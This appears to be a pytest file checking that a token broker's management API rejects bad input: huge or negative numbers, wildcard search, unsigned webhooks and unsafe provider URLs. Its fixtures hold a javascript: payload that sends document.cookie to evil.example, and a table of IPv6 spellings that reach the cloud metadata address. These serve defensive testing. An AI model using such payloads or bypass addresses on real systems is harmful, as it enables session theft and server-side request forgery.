"""Extension endpoints validated like Descope's: bounded integers, literal text search, provider
metadata and IPv6 spellings checked like what an operator types, and no unsigned webhooks
(docs/security.md, "dashboard ↔ broker" and "broker ↔ provider": tampering).
"""

from __future__ import annotations

import secrets
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from broker.area_settings import LifecycleSettings
from broker.cli import _broker_settings, build_parser
from tests.support.identity import sign_in_new_user
from tests.support.outbound import CLIENT_SECRET
from tests.support.servers import LiveBroker, ThreadedServer
from tests.support.token_seed import upload_user_token

METADATA_SERVICE = "169.254.169.254"
# 169.254.169.254 inside IPv6: what a relay or translator delivers to the metadata service.
EMBEDDED_METADATA = {
    "ipv4_mapped": "::ffff:a9fe:a9fe",
    "ipv4_compatible": "::a9fe:a9fe",
    "6to4": "2002:a9fe:a9fe::1",
    "nat64": "64:ff9b::a9fe:a9fe",
    "nat64_local": "64:ff9b:1::a9fe:a9fe",
    "teredo_client": "2001:0:4136:e378:8000:63bf:5601:5601",
}


def _create_app(live: LiveBroker, **fields: Any) -> httpx.Response:
    return httpx.post(
        f"{live.url}/v1/mgmt/outbound/app/create",
        headers=live.mgmt_headers(),
        json={"name": f"hostile {secrets.token_hex(3)}", **fields},
    )


def _mgmt_get(live: LiveBroker, path: str, **params: Any) -> httpx.Response:
    return httpx.get(f"{live.url}{path}", headers=live.mgmt_headers(), params=params)


@pytest.mark.parametrize(
    "params",
    [
        {"after": str(2**63)},
        {"after": "-1"},
        {"since": str(2**64)},
        {"since": "nan"},
        {"since": "-inf"},
        {"limit": str(2**63)},
    ],
    ids=["after_2_63", "after_negative", "since_2_64", "since_nan", "since_inf", "limit_2_63"],
)
def test_out_of_range_event_filters_are_a_400_not_a_500(
    live_broker: LiveBroker, params: dict[str, str]
) -> None:
    answer = _mgmt_get(live_broker, "/v1/x/events", **params)
    assert answer.status_code == 400, answer.text
    assert answer.json()["errorCode"].startswith("E011")


@pytest.mark.parametrize("params", [{"page": str(2**63)}, {"limit": str(-1)}])
def test_out_of_range_inventory_pages_are_a_400(
    live_broker: LiveBroker, params: dict[str, str]
) -> None:
    assert _mgmt_get(live_broker, "/v1/x/outbound/inventory", **params).status_code == 400


def test_inventory_user_text_wildcards_match_literally(
    live_broker: LiveBroker, app_id: str
) -> None:
    marker = secrets.token_hex(3)
    percent = sign_in_new_user(live_broker, login_id=f"100%-{marker}@example.test")
    plain = sign_in_new_user(live_broker, login_id=f"plain-{marker}@example.test")
    for user in (percent, plain):
        upload_user_token(live_broker, app_id, user.user_id, accessToken="a" * 20, expiresIn=3600)
    for text, expected in (("%", {percent.user_id}), ("_", set()), (marker, None)):
        answer = _mgmt_get(live_broker, "/v1/x/outbound/inventory", userText=text, appId=app_id)
        assert answer.status_code == 200, answer.text
        found = {t["userId"] for t in answer.json()["tokens"]}
        assert found == (expected if expected is not None else {percent.user_id, plain.user_id})


@pytest.fixture
def hostile_metadata() -> Any:
    """A provider whose discovery document names a ``javascript:`` authorization endpoint."""

    async def metadata(request: Request) -> JSONResponse:
        base = str(request.base_url).rstrip("/")
        return JSONResponse(
            {
                "issuer": base,
                "authorization_endpoint": "javascript:fetch('//evil.example/'+document.cookie)",
                "token_endpoint": f"{base}/token",
            }
        )

    app = Starlette(routes=[Route("/.well-known/openid-configuration", metadata)])
    server = ThreadedServer(app).start()
    try:
        yield server
    finally:
        server.stop()


def test_discovered_javascript_authorization_endpoint_is_refused(
    live_broker: LiveBroker, hostile_metadata: ThreadedServer
) -> None:
    answer = _create_app(
        live_broker,
        clientId="client",
        clientSecret=CLIENT_SECRET,
        discoveryUrl=f"{hostile_metadata.url}/.well-known/openid-configuration",
    )
    assert answer.status_code == 400, answer.text
    listed = _mgmt_get(live_broker, "/v1/mgmt/outbound/apps").json()["apps"]
    assert not any(a["authorizationUrl"].startswith("javascript:") for a in listed)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "https:///x"])
def test_configured_non_http_authorization_url_is_refused(
    live_broker: LiveBroker, url: str
) -> None:
    answer = _create_app(live_broker, authorizationUrl=url)
    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize("address", EMBEDDED_METADATA.values(), ids=EMBEDDED_METADATA.keys())
def test_ipv6_spelling_of_the_metadata_service_is_refused(
    live_broker: LiveBroker, address: str
) -> None:
    answer = _create_app(live_broker, tokenUrl=f"https://[{address}]/token")
    assert answer.status_code == 400, answer.text
    assert "non-public" in answer.json()["errorMessage"]


@pytest.mark.parametrize("address", ["64:ff9b::808:808", "2002:808:808::1"], ids=["nat64", "6to4"])
def test_ipv6_spelling_of_a_public_address_stays_allowed(
    live_broker: LiveBroker, address: str
) -> None:
    """The check judges the IPv4 inside: 8.8.8.8 behind NAT64 or 6to4 is a public provider."""
    answer = _create_app(live_broker, tokenUrl=f"https://[{address}]/token")
    assert answer.status_code == 200, answer.text


def test_unsigned_webhooks_are_refused_at_start(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OUTBOUND_WEBHOOK_SECRET", raising=False)
    args = build_parser().parse_args(
        ["broker", "--webhook-url", "https://hooks.example.com/outbound", "--port", "9"]
    )
    # What `outbound broker` reads before it binds anything: it stops there with one sentence.
    with pytest.raises(SystemExit) as exited:
        _broker_settings(args)
    assert "OUTBOUND_WEBHOOK_SECRET" in str(exited.value)
    with pytest.raises(ValueError):
        LifecycleSettings(webhook_urls=("https://hooks.example.com/outbound",))
